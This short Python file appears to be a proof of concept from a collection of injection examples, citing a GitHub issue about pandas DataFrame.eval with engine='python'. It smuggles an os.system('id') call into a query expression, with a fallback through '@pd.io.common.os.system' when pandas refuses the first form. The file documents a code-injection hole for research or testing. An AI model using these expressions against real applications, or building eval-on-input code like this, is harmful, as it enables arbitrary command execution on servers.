# Source: https://github.com/malariagen/malariagen-data-python/issues/1292 (DataFrame.eval engine=python)
# Family: data-is-code
# What: DataFrame.eval with engine='python': the published __import__ form (refused by pandas 1.5), then an @pd reference
import pandas as pd

df = pd.DataFrame({"country": ["Ghana"]})
try:
    df.eval("__import__('os').system('id') or country == 'Ghana'", engine="python")
except ValueError:
    df.eval("@pd.io.common.os.system('id')", engine="python")
